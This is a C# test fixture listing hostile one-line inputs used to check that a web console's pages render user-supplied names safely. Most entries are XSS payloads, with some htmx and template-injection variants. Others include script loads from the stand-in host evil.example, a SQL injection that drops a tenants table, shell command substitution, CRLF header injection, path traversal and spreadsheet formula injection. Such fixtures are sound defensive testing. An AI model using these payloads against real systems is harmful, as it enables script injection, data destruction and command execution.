namespace OwnerConsole.Fixtures;

/// <summary>
/// Texts that attack the page they are shown on. If one is executed, it is marked <c>data-hostile</c>, requests
/// <c>/hostile</c> or opens a dialog.
/// </summary>
public static class HostileTexts
{
    /// <summary>Each text is one line of at most 200 characters, the limit of a name.</summary>
    public static readonly IReadOnlyList<string> All =
    [
        .. Typed.Split('\n'),
        // Reversed, joined or invisible text, or text that changes when it is normalized or lowercased.
        "\u202E<script data-hostile>alert(1)</script>",
        "Exam\u202Eple<img data-hostile src=x onerror=alert(1)>",
        "\u2066\u2067<b data-hostile hx-get=/hostile hx-trigger=load>x</b>\u2069",
        "\u200B<img data-hostile src=x onerror=alert(1)>\u200B",
        "\uFEFF<script data-hostile>alert(1)</script>",
        "x\u2028alert(1)//\u2029alert(1)//",
        "<\u200Dscript data-hostile>alert(1)</script>",
        "<scr\u00ADipt data-hostile>alert(1)</scr\u00ADipt>",
        "<\u017Fcript data-hostile>alert(1)</\u017Fcript>",
        "<\u0131mg data-hostile src=x onerror=alert(1)>",
        "<\u212Bx data-hostile onclick=alert(1)>",
        "\"\u0338><img data-hostile src=x onerror=alert(1)>",
        "<\u0338img data-hostile src=x onerror\u00A0=alert(1)>",
        "\u00A0\u3000javascript:alert(1)",
        "\uFF1Cimg data-hostile src=x onerror=alert(1)\uFF1E",
        "\u02BA><img data-hostile src=x onerror=alert(1)>",
        "\U0001F9D1\u200D\U0001F680<img data-hostile src=x onerror=alert(1)>",
        "\uFDD0\uFFFD<img data-hostile src=x onerror=alert(1)>",
        "\uFF1D1+1",
    ];

    /// <summary>Texts of at most this length, starting at a position of the list.</summary>
    public static string[] Within(int longest, int count, int from = 0) => [.. All.Where(text => text.Length <= longest).Skip(from).Take(count)];

    private const string Typed = """
        <script data-hostile>alert(1)</script>
        <script data-hostile src=/hostile></script>
        <script data-hostile src=//evil.example/hostile></script>
        <SCRIPT data-hostile>alert`1`</SCRIPT>
        <script/data-hostile>alert(1)</script>
        <scr<script data-hostile>ipt>alert(1)</scr</script>ipt>
        <script data-hostile type=module>import("/hostile")</script>
        <script data-hostile type=importmap>{"imports":{"htmx.org":"/hostile"}}</script>
        <script data-hostile type=speculationrules>{"prefetch":[{"source":"list","urls":["/hostile"]}]}</script>
        <noscript><p data-hostile title="</noscript><img data-hostile src=x onerror=alert(1)>">
        <img data-hostile src=x onerror=alert(1)>
        <img data-hostile src=/hostile>
        <IMG/data-hostile/src=`x`/onerror=alert(1)>
        <img data-hostile srcset=/hostile onload=alert(1)>
        <image data-hostile src=x onerror=alert(1)>
        <img data-hostile src=x onerror=&#97;lert(1)>
        <picture><source data-hostile srcset=/hostile><img data-hostile></picture>
        <svg data-hostile onload=alert(1)>
        <svg data-hostile><script data-hostile>alert(1)</script></svg>
        <svg data-hostile><animate data-hostile onbegin=alert(1) attributeName=x dur=1s>
        <svg data-hostile><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
        <svg data-hostile><use href="/hostile#x"></use></svg>
        <svg data-hostile><image href=/hostile /></svg>
        <svg data-hostile><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
        <svg data-hostile><style data-hostile>@import "/hostile";</style></svg>
        <svg data-hostile><set attributeName=href to=javascript:alert(1)></set></svg>
        <svg data-hostile><desc><![CDATA[</desc><script data-hostile>alert(1)</script>]]></svg>
        <math data-hostile><mtext><table><mglyph><style><img data-hostile src=x onerror=alert(1)></style></mglyph></table></mtext></math>
        <math data-hostile href="javascript:alert(1)">x</math>
        <iframe data-hostile src="javascript:alert(1)"></iframe>
        <iframe data-hostile srcdoc="<script>alert(1)</script>"></iframe>
        <iframe data-hostile src=/hostile></iframe>
        <object data-hostile data=/hostile></object>
        <object data-hostile data="data:text/html,<script>alert(1)</script>"></object>
        <embed data-hostile src=/hostile>
        <body data-hostile onload=alert(1)>
        <html data-hostile manifest=/hostile>
        <head><base data-hostile href=//evil.example/hostile/></head>
        <meta data-hostile http-equiv=refresh content="0;url=/hostile">
        <meta data-hostile http-equiv=Content-Security-Policy content="script-src *">
        <meta data-hostile name=htmx-config content='{"extensions":""}'>
        <link data-hostile rel=stylesheet href=/hostile>
        <link data-hostile rel=prefetch href=/hostile>
        <link data-hostile rel=modulepreload href=/hostile>
        <link data-hostile rel=icon href=/hostile>
        <style data-hostile>body{background:url(/hostile)}</style>
        <style data-hostile>@import'/hostile';</style>
        <div data-hostile style="background:url(/hostile)">x</div>
        <div data-hostile style="position:fixed;inset:0">x</div>
        <form data-hostile action=/hostile><input data-hostile autofocus onfocus=alert(1)></form>
        <form data-hostile id=tenants action=/sign-out method=post><button data-hostile>Acme</button></form>
        <form data-hostile name=body id=main><input name=attributes></form>
        <button data-hostile formaction="javascript:alert(1)">x</button>
        <input data-hostile onfocus=alert(1) autofocus>
        <input data-hostile type=image src=/hostile onerror=alert(1)>
        <select data-hostile autofocus onfocus=alert(1)><option>x</option></select>
        <textarea data-hostile autofocus onfocus=alert(1)></textarea>
        <video data-hostile src=/hostile onerror=alert(1)></video>
        <video data-hostile poster=/hostile></video>
        <video data-hostile><source data-hostile onerror=alert(1)></video>
        <audio data-hostile src=/hostile onerror=alert(1)></audio>
        <details data-hostile open ontoggle=alert(1)>x</details>
        <dialog data-hostile open>x</dialog>
        <div data-hostile popover id=toasts>x</div>
        <div data-hostile id=palette-offer>x</div>
        <marquee data-hostile onstart=alert(1)>x</marquee>
        <a data-hostile href="javascript:alert(1)">x</a>
        <a data-hostile href="java&#9;script:alert(1)">x</a>
        <a data-hostile href=" &#14; javascript:alert(1)">x</a>
        <a data-hostile href="data:text/html,<script>alert(1)</script>">x</a>
        <a data-hostile ping=/hostile href=#>x</a>
        <a data-hostile href=/hostile target=_blank rel=opener>x</a>
        <a data-hostile id=__proto__ name=getElementById>x</a>
        <template data-hostile shadowrootmode=open><script data-hostile>alert(1)</script></template>
        <x-hostile data-hostile tabindex=1 autofocus onfocusin=alert(1)>x</x-hostile>
        <p data-hostile onanimationstart=alert(1) style="animation:x 1s">x</p>
        <p data-hostile onpointerover=alert(1)>x</p>
        <table data-hostile background=/hostile><td>x</table>
        <frameset data-hostile onload=alert(1)>
        <plaintext data-hostile>
        <!--<img data-hostile src=x onerror=alert(1)>-->
        <!--><img data-hostile src=x onerror=alert(1)>-->
        <![CDATA[<img data-hostile src=x onerror=alert(1)>]]>
        <?xml version="1.0"?><x data-hostile onclick=alert(1)>
        <!DOCTYPE html [<!ENTITY x SYSTEM "/hostile">]>&x;
        "><img data-hostile src=x onerror=alert(1)>
        '><img data-hostile src=x onerror=alert(1)>
        `><img data-hostile src=x onerror=alert(1)>
        ></script><script data-hostile>alert(1)</script>
        </script><script data-hostile>alert(1)</script>
        </style><img data-hostile src=x onerror=alert(1)>
        </title><img data-hostile src=x onerror=alert(1)>
        </textarea><img data-hostile src=x onerror=alert(1)>
        </template><img data-hostile src=x onerror=alert(1)>
        </option></select><img data-hostile src=x onerror=alert(1)>
        </dialog><img data-hostile src=x onerror=alert(1)>
        </td></tr></table><img data-hostile src=x onerror=alert(1)>
        </svg><img data-hostile src=x onerror=alert(1)>
        </bdi></a><img data-hostile src=x onerror=alert(1)>
        --><img data-hostile src=x onerror=alert(1)>
        --!><img data-hostile src=x onerror=alert(1)>
        ]]><img data-hostile src=x onerror=alert(1)>
        \"><img data-hostile src=x onerror=alert(1)>
        " onmouseover=alert(1) data-hostile="
        ' onmouseover=alert(1) data-hostile='
        ` onmouseover=alert(1) data-hostile=`
        " autofocus onfocus=alert(1) data-hostile x="
        " style="background:url(/hostile)" data-hostile="
        " href="javascript:alert(1)" data-hostile="
        " formaction="javascript:alert(1)" data-hostile="
        " src=/hostile onerror=alert(1) data-hostile="
        x onload=alert(1) data-hostile
        /onload=alert(1) data-hostile
        &quot;&gt;&lt;img data-hostile src=x onerror=alert(1)&gt;
        javascript:alert(1)
        JaVaScRiPt:alert(1)
        javascript&colon;alert(1)
        javascript://evil.example/%0Aalert(1)
        javascript:/*--></title></style></textarea></script><img data-hostile src=x onerror=alert(1)>*/alert(1)
        data:text/html,<script data-hostile>alert(1)</script>
        data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
        data:image/svg+xml,<svg onload=alert(1)>
        vbscript:msgbox(1)
        //evil.example/hostile
        \\evil.example\hostile
        https://evil.example/hostile
        /hostile
        /../hostile?x=<script data-hostile>
        ?q=<script data-hostile>alert(1)</script>
        #<img data-hostile src=x onerror=alert(1)>
        %3Cscript data-hostile%3Ealert(1)%3C/script%3E
        %22%3E%3Cimg%20data-hostile%20src=x%20onerror=alert(1)%3E
        ';alert(1)//
        ";alert(1)//
        \';alert(1)//
        `;alert(1)//
        '-alert(1)-'
        "-alert(1)-"
        ${alert(1)}
        `${alert(1)}`
        */alert(1)/*
        {"__proto__":{"x":"alert(1)"}}
        __proto__
        constructor
        [object Object]
        \u003cscript data-hostile\u003ealert(1)\u003c/script\u003e
        \x3cimg data-hostile src=x onerror=alert(1)\x3e
        {{constructor.constructor('alert(1)')()}}
        {{{<img data-hostile src=x onerror=alert(1)>}}}
        {{#with "s" as |string|}}{{string.sub.apply 0}}{{/with}}
        {0} {1} {name} %s %n
        @(1+1) @{alert(1)} @Html.Raw("<img data-hostile src=x>")
        <%= 7*7 %> #{7*7} *{7*7} [[${7*7}]] {% include "/hostile" %}
        $(touch /tmp/hostile) `touch /tmp/hostile`
        <div data-hostile ng-app>{{$eval.constructor('alert(1)')()}}</div>
        <div data-hostile x-data="{}" x-init="alert(1)">x</div>
        <div data-hostile v-html="'<img src=x onerror=alert(1)>'">x</div>
        <div data-hostile _="on load call alert(1)">x</div>
        <b data-hostile hx-get=/hostile hx-trigger=load>x</b>
        <b data-hostile data-hx-get=/hostile data-hx-trigger=load>x</b>
        <b data-hostile hx-post=/sign-out hx-trigger=load>x</b>
        <b data-hostile hx-action=/hostile hx-method=post hx-trigger=load>x</b>
        <b data-hostile hx-action="js:alert(1)" hx-trigger=load>x</b>
        <b data-hostile hx-on:click=alert(1)>x</b>
        <b data-hostile hx-on::load=alert(1)>x</b>
        <b data-hostile hx-on="load: alert(1)">x</b>
        <b data-hostile hx-on:htmx:after:init="alert(1)">x</b>
        <b data-hostile hx-vals="js:{x:alert(1)}" hx-get=/hostile hx-trigger=load>x</b>
        <b data-hostile hx-headers="javascript:{x:alert(1)}" hx-get=/hostile hx-trigger=load>x</b>
        <b data-hostile hx-trigger="load[alert(1)]" hx-get=/hostile>x</b>
        <b data-hostile hx-trigger="every 1ms" hx-get=/hostile>x</b>
        <b data-hostile hx-trigger=intersect hx-get=/hostile>x</b>
        <b data-hostile hx-confirm="js:alert(1)" hx-get=/hostile hx-trigger=load>x</b>
        <b data-hostile hx-boost=true><a href=/hostile>x</a></b>
        <b data-hostile hx-swap-oob=true id=dialogs>x</b>
        <b data-hostile hx-swap-oob="innerHTML:#main">x</b>
        <b data-hostile hx-sse:connect=/hostile hx-ws:connect=/hostile>x</b>
        <b data-hostile hx-config='{"extensions":""}' hx-ext=/hostile>x</b>
        <b data-hostile hx-get=/hostile hx-push-url=/hostile hx-trigger=load>x</b>
        <hx-partial data-hostile hx-target="#main">x</hx-partial>
        " hx-get=/hostile hx-trigger=load data-hostile="
        ' hx-get=/hostile hx-trigger=load data-hostile='
        " hx-on:load=alert(1) data-hostile="
        " data-hotkey=j data-undo onclick=alert(1) data-hostile="
        js:alert(1)
        js:{x:alert(1)}
        [x](javascript:alert(1))
        ![x](/hostile)
        [x](data:text/html,<script>alert(1)</script>)
        <javascript:alert(1)>
        [x]: javascript:alert(1) "<img data-hostile src=x onerror=alert(1)>"
        # <img data-hostile src=x onerror=alert(1)>
        > <script data-hostile>alert(1)</script>
        | <img data-hostile src=x onerror=alert(1)> |
        **<b data-hostile onclick=alert(1)>x</b>** {#hostile onclick=alert(1)}
        [x](/hostile "\" onmouseover=alert(1) data-hostile=\"")
        &lt;script data-hostile&gt;alert(1)&lt;/script&gt;
        &#60;img data-hostile src=x onerror=alert(1)&#62;
        &amp;lt;img data-hostile src=x onerror=alert(1)&amp;gt;
        +ADw-script data-hostile+AD4-alert(1)+ADw-/script+AD4-
        %00<script data-hostile>alert(1)</script>
        x%0d%0aSet-Cookie: hostile=1%0d%0a%0d%0a<script data-hostile>alert(1)</script>
        ' or 1=1; drop table core.tenants; --
        %' or '%'='
        ../../../../hostile
        =HYPERLINK("/hostile","x")
        =cmd|' /C calc'!A0
        +1+1<b data-hostile>
        -2+3<b data-hostile>
        @SUM(1+1)<b data-hostile>
        """;
}
